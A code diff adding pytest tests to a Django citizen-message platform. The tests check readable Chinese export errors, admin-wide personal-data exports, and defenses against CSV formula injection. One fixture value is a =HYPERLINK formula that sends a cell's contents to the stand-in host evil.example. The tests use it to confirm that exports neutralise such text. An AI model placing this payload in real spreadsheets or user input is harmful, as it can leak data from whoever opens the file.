@@ -14,11 +14,17 @@ from django.http import StreamingHttpResponse
 from django.utils import timezone
 from openpyxl import load_workbook
 
+from minsheng.board import actions
 from minsheng.board.models import Event, Message
-from minsheng.stats import figures
+from minsheng.stats import exports, figures
 from minsheng.stats.models import Campaign
 
-from .test_stats_cases import build_cases
+from .conftest import make_user
+from .test_stats_cases import BODY, build_cases
+
+# What a citizen typed as a title (QA report 2026-12-02, item 1)
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+BROWSER_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
 
 
 @pytest.fixture(autouse=True)
@@ -107,6 +113,118 @@ def test_bad_export_requests(client, directory):
     response = client.get("/stats/export/messages.csv", {"region": "abc"})
     assert response.status_code == 400 and "区划" in response.json()["error"]
     assert client.get("/stats/export/table.csv", {"by": "weather"}).status_code == 400
+
+
+@pytest.mark.parametrize("url, params, status, message", [
+    ("/stats/export/table.csv", {"by": "zzz"}, 400, "不支持的分组: zzz"),
+    ("/stats/export/messages.csv", {"date_from": "zzz"}, 400, "不是有效日期"),
+    ("/stats/export/messages.xlsx", {"measure": "overdue"}, 403, "该统计项只能由工作人员导出"),
+    ("/stats/figures.json", {"region": "zzz"}, 400, "没有区划代码为 zzz 的区划"),
+], ids=["table-by", "date", "staff-measure", "figures-json"])
+def test_export_errors_are_readable_chinese(client, directory, url, params, status, message):
+    response = client.get(url, params)
+    assert response.status_code == status
+    assert response["Content-Type"] == "application/json; charset=utf-8"
+    body = response.content.decode("utf-8")
+    assert message in body and "\\u" not in body  # not {"error": "\u4e0d\u652f…"}
+    assert message in response.json()["error"]
+
+
+def test_export_error_in_a_browser_is_the_statistics_error_page(client, login, personas):
+    response = client.get("/stats/export/table.csv", {"by": "zzz"}, HTTP_ACCEPT=BROWSER_ACCEPT)
+    assert response.status_code == 400 and response["Content-Type"].startswith("text/html")
+    page = response.content.decode()
+    assert "无法显示" in page and "不支持的分组: zzz" in page and "返回公开统计" in page
+    refused = login(personas["citizen"]).get("/stats/export/messages.csv", {"personal": "1", "region": "620100"},
+                                             HTTP_ACCEPT=BROWSER_ACCEPT)
+    assert refused.status_code == 403 and "您无权导出该区划留言的个人信息" in refused.content.decode()
+    assert not _exports().exists()
+
+
+def test_admin_exports_personal_data_of_the_whole_country(login, personas, cases):
+    """An admin oversees everywhere: no region means every region (was a 500)."""
+    admin = login(make_user("root", is_superuser=True, is_staff=True))
+    response = admin.get("/stats/export/messages.csv", {"personal": "1"})
+    assert response.status_code == 200
+    ids = {r[0] for r in _csv(response)[1:]}
+    assert cases["dingxi"].public_id in ids and cases["on_time_satisfied"].public_id in ids
+    assert len(ids) == figures.compute()["received"]
+    response = admin.get("/stats/export/messages.xlsx", {"personal": "1", "measure": "received"})
+    assert response.status_code == 200
+    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2, values_only=True))
+    assert {r[0] for r in rows} == ids
+    assert [e.data["filters"].get("region") for e in _exports()] == [None, None]
+
+
+# --- spreadsheet formulas from users' text (CSV/formula injection) ----------------------
+
+def test_formula_like_text_is_marked_as_text():
+    row = ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "a=b", "", None, -2, 3.5, 0]
+    assert exports.csv_cells(row) == ["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", None,
+                                      -2, 3.5, 0]
+
+
+@pytest.fixture
+def formula_message(directory, personas, django_capture_on_commit_callbacks):
+    citizen = personas["citizen"]
+    citizen.display_name = "@小李"
+    citizen.save(update_fields=["display_name"])
+    with django_capture_on_commit_callbacks(execute=True):
+        m = actions.do_submit(citizen, title=FORMULA, body=BODY, kind="help", region=directory["chengguan"],
+                              topic=directory["topic_build"])
+        actions.do_accept(personas["dispatcher"], m)
+    return m
+
+
+def _no_formulas(workbook) -> dict:
+    """value -> data type of every non-empty cell, after checking none is a formula."""
+    cells = {c.value: c.data_type for ws in workbook for row in ws.iter_rows() for c in row if c.value is not None}
+    assert "f" not in cells.values()
+    return cells
+
+
+def test_message_exports_write_a_formula_title_as_text(client, login, personas, formula_message):
+    params = {"region": "620102", "measure": "received"}
+    rows = _csv(client.get("/stats/export/messages.csv", params))
+    assert rows[1][0] == formula_message.public_id
+    assert rows[1][1] == "'" + formula_message.public_title and rows[1][1].startswith("'=HYPERLINK(")
+    response = client.get("/stats/export/messages.xlsx", params)
+    cells = _no_formulas(load_workbook(io.BytesIO(response.content)))
+    assert cells[formula_message.public_title] == "s"
+    # personal exports: the author's name too
+    sup = login(personas["supervisor"])
+    rows = _csv(sup.get("/stats/export/messages.csv", {**params, "personal": "1"}))
+    assert rows[1][1] == "'" + FORMULA and rows[1][-3] == "'@小李"
+    response = sup.get("/stats/export/messages.xlsx", {**params, "personal": "1"})
+    cells = _no_formulas(load_workbook(io.BytesIO(response.content)))
+    assert cells[FORMULA] == "s" and cells["@小李"] == "s"
+
+
+def test_table_and_campaign_exports_write_formula_names_as_text_and_numbers_as_numbers(client, directory,
+                                                                                        formula_message):
+    directory["chengguan"].name = "-城关区"  # names are typed in the back office
+    directory["chengguan"].save(update_fields=["name"])
+    today = timezone.localdate()
+    Campaign.objects.create(slug="c1", name="=1+1", start=today - dt.timedelta(days=1), end=today)
+    wb = load_workbook(io.BytesIO(client.get("/stats/export/table.xlsx", {"region": "620100"}).content))
+    rows = {r[0].value: r for r in wb["按区划"].iter_rows(min_row=2)}
+    assert rows["-城关区"][0].data_type == "s"
+    assert rows["-城关区"][1].value == 1 and rows["-城关区"][1].data_type == "n"
+    _no_formulas(wb)
+    rows = _csv(client.get("/stats/export/table.csv", {"region": "620100"}))
+    assert ["'-城关区", "1"] == rows[1][:2]
+    wb = load_workbook(io.BytesIO(client.get("/stats/campaigns/c1/report.xlsx").content))
+    assert _no_formulas(wb)["=1+1"] == "s"
+    assert ["活动", "'=1+1"] in _csv(client.get("/stats/campaigns/c1/report.csv"))
+
+
+def test_export_command_writes_a_formula_title_as_text(formula_message, tmp_path, capsys):
+    out = tmp_path / "m.xlsx"
+    call_command("export_stats", "messages", "--region", "620102", "--format", "xlsx", "-o", str(out))
+    assert _no_formulas(load_workbook(out))[formula_message.public_title] == "s"
+    call_command("export_stats", "messages", "--region", "620102")
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert rows[1][1] == "'" + formula_message.public_title
 
 
 def test_statistics_table_exports(client, cases):
